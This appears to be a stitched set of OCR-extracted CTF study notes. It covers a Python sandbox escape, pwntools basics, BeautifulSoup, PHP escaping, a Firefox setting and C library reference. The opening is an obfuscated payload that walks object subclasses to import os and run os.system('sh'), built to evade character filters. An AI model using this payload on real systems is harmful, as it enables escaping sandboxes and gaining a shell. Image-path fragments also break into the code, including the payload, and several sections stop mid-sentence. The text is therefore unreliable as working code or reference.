{}.__class__.__base__.__subclasses__()[[i.__name__ == "catch_warnings" for i in {}.__class__.__base__.__subclasses__()].index(True)] this will give me catch_warnings
{}.__class__.__base__.__subclasses__()[[i.__name__ == "catch_warnings" for i in {}.__class__.__base__.__subclasses__()].index(True)]()._module.__builtins__["__import__"]("os").system("sh") this will give me shell

Then we just need to change . to getattr, and _ to dir(0)[0][0] Final payload :

getattr(getattr(getattr(getattr(getattr(getattr((), dir(0)[0][0]*2+"class"+dir(0)[0][0]*2), dir(0)[0][0]*2+"base"+dir(0)[0][0]*2), dir(0)[0][0]*2+"subcl"+"asses"+dir(0)[0][0]*2)()[getattr([getattr(i, dir(0)[0][0]*2+"name"+dir(0)[0][0]*2) == "catch"+dir(0)[0][0]+"warnings" for i in getattr(getattr(getattr((),dir(0)[0][0]*2+"class"+dir(0)[0][0]*2), dir(0)[0][0]*2+"base"+dir(0)[0][0]*2), dir(0)[0][0]*2+"subcl"+"asses"+dir(0)[0][0]*2)()], "index")(True)](), dir(0)[0][0]+"module"), dir(0)[0][0]*2+"builtins"+dir(0)[0][0]*2)[dir(0)[0][0]*2+"imp"+"ort"+dir(0)[0][0]*2]("o"+"s"), "sy"+"stem")("sh")


A tag may have any number of attributes. The tag <b id=”boldest”> has an attribute “id” whose value is “boldest”. You can access a tag’s attributes by treating the tag like a dictionary:

tag[‘id’] # u’boldest’

You can access that dictionary directly as .attrs:

tag.attrs # {u’id’: ‘boldest’}

and read the tag value using


If you have something like

<form id="form_product_page" name="form_1362737440" action="/download/791055/164084/" method="get">
<input id="nojssubmit" type="submit" value="Download" />

and want action value we can

action = soup.find('form', id='form_product_page').get('action')


pwntools is a CTF framework and exploit development.

Installing PwntoolsUbuntu and Debian

$ apt-get update
$ apt-get install python3 python3-pip python3-dev git libssl-dev libffi-dev build-essential
$ python3 -m pip install --upgrade pip
$ python3 -m pip install --upgrade pwntools
Verifying Installation

Check if below command works:

$ python -c 'from pwn import *'
Foreign Architectures

If we want to assemble or disassemble code for foreign architectures, install appropriate binutils installation.

$ apt-get install binutils-*


Tubes are effectively I/O wrappers for most types of I/O• Local processes

  • Remote TCP or UDP connections

  • Processes running on a remote server over SSH

  • Serial port I/O

Basic IO

The basic functions

Receiving data
  • recv(n) - Receive any number of available bytes

  • recvline() - Receive data until a newline is encountered

  • recvuntil(delim) - Receive data until a delimiter is found

  • recvregex(pattern) - Receive data until a regex pattern is satisfied

  • recvrepeat(timeout) - Keep receiving data until a timeout occurs

  • clean() - Discard all buffered data

Sending data
  • send(data) - Sends data

  • sendline(line) - Sends data plus a newline• sendlineafter(delim, data, timeout=default) - Sends data after delim

Manipulating integers
  • pack(int) - Sends a word-size packed integer

  • unpack() - Receives and unpacks a word-size integer

Processes and Basic FeaturesIn order to create a tube to talk to a process, we create a process object and give it the name of the target binary. If we want to run a local binary, instead of process('sh'), it would be process('./local_binary').

If we need to provide command-line arguments, or set the environment, additional options are available.

from pwn import *

io = process(['sh', '-c', 'echo $MYENV'], env={'MYENV': 'MYVAL'})
# 'MYVAL\n'

Reading binary data isn’t a problem either. You can receive up-to a number of bytes with recv, or block for an exact count with recvn.

from pwn import *

io = process(['sh', '-c', 'echo A; sleep 1; echo B; sleep 1; echo C; sleep 1; echo DDD'])

# 'A\n'

# 'B\nC\n'

# 0xa444444
Interactive Sessions
from pwn import *

# Let's pretend we're uber 1337 and landed a shell.
io = process('sh')# <exploit goes here>


Creating a network connection is also easy, and has the exact same interface. A remote object connects to somewhere else, while a listen object waits for a connection.

from pwn import *

io = remote('', 80)
io.send('GET /\r\n\r\n')
# 'HTTP/1.0 200 OK\r\n'

If you need to specify protocol information, it’s also pretty straightforward.

from pwn import *

dns  = remote('', 53, typ='udp')
tcp6 = remote('', 80, fam='ipv6')Listening for connections isn’t much more complex. Note that this listens for exactly one connection, then stops listening.

from pwn import *

client = listen(8080).wait_for_connection()
Secure Shell

SSH connectivity is similarly simple. Compare the code below with that in “Hello Process” above.

You can also do more complex things with SSH, such as port forwarding and file upload / download. See the [SSH tutorial][ssh] for more information.

from pwn import *

session = ssh('bandit0', '', password='bandit0')

io = session.process('sh', env={"PS1":""})
io.sendline('echo Hello, world!')
# 'Hello, world!\n'Serial Ports

In the event you need to get some local hacking done, there’s also a serial tube. As always, there is more information in the [full online documentation][serial].

from pwn import *

io = serialtube('/dev/ttyUSB0', baudrate=115200)


>>> from pwn import *

Making Connections

conn = remote('',21)

Receiving Lines

conn.recvuntil(' ', drop=True)Sending Lines

conn.send('USER anonymous\r\n')


  • unbits: Converts an iterable of bits into a string.

  • unhex: Hex-decodes a string.

Pwn Templates

pwn template command can be used for generating templates.A foreign function library for Python. It provides C compatible data types, and allows calling functions in DLLs or shared libraries. It can be used to wrap these libraries in pure Python. ctypes exports the cdll, and on Windows windll and oledll objects, for loading dynamic link libraries.


  • mysqli_real_escape_string — Escapes special characters in a string for use in an SQL statement, taking into account the current charset of the connection.

  • filter_var — Filters a variable with a specified filter. There are multiple types of filter such as Validate, Sanitize etc.

  • Exploitable PHP Functions


  1. In a new tab, type or paste about:config in the address bar and press Enter/Return. Click the button promising to be careful.

  2. In the search box above the list, type or paste captiv and pause while the list is filtered

(3) Double-click the network.captive-portal-service.enabled preference to switch the value from true to false If you are in a managed environment using an autoconfig file, for example, youcould use this to switch the default: user_pref(“network.captive-portal-service.enabled”, false);

Generating Wordlists

Many times we need to generate a wordlist. There are multiple tools for it.



C Programming




Generate random number: Returns a pseudo-random integral number in the range between 0 and RAND_MAX.

int rand (void);
  • This number is generated by an algorithm that returns a sequence of apparently non-related numbers each time it is called. This algorithm uses a seed to generate the series, which should be initialized to some distinctive value using function srand.

  • A typical way to generate trivial pseudo-random numbers in a determined range using rand is to use the modulo of the returned value by the range span and add the initial value of the range:

    v1 = rand() % 100;         // v1 in the range 0 to 99
    v2 = rand() % 100 + 1;     // v2 in the range 1 to 100
    v3 = rand() % 30 + 1985;   // v3 in the range 1985-2014
    • Notice though that this modulo operation does not generate uniformly distributed random numbers in the span (since in most cases this operation makes lower numbers slightly more likely).


The pseudo-random number generator is initialized using the argument passed as seed.

void srand (unsigned int seed);
  • For every different seed value used in a call to srand, the pseudo-random number generator can be expected to generate a different succession of results in the subsequent calls to rand.

  • Two differentinitializations with the same seed will generate the same succession of results in subsequent calls to rand.

  • If seed is set to 1, the generator is reinitialized to its initial value and produces the same values as before any call to rand or srand.



The C library function fgets reads a line from the specified stream and stores it intothe string pointed to by str. It stops when either (n-1) characters are read, the newline character is read, or the end-of-file is reached, whichever comes first.

char *fgets(char *str, int n, FILE *stream)
  • str: pointer to an array of chars where the string read is stored.

  • n: maximum number of characters to be read (including the final null-character). Usually, the length of the array passed as str is used.

  • stream: pointer to a FILE object that identifies the stream where characters are read from.

Return value

On success, the function returns the same str parameter.

  • If the End-of-File is encountered and no characters have been read, the contents of str remain unchanged and a null pointer is returned.

  • If an error occurs, a null pointer is returned.

Data conversionHex from little endian to big-endian


  • first converts thehexadecimal string to a bytearray,

  • thenreverses the order of the elements in the bytearray using [::-1], and

  • finally converts the reversed bytearray back to a hexadecimal string using .hex().

hex_str = "AABBCCDD"
result = bytearray.fromhex(hex_str)[::-1].hex()

Hex to ASCII

part_flag ="7069636f"
# b'pico'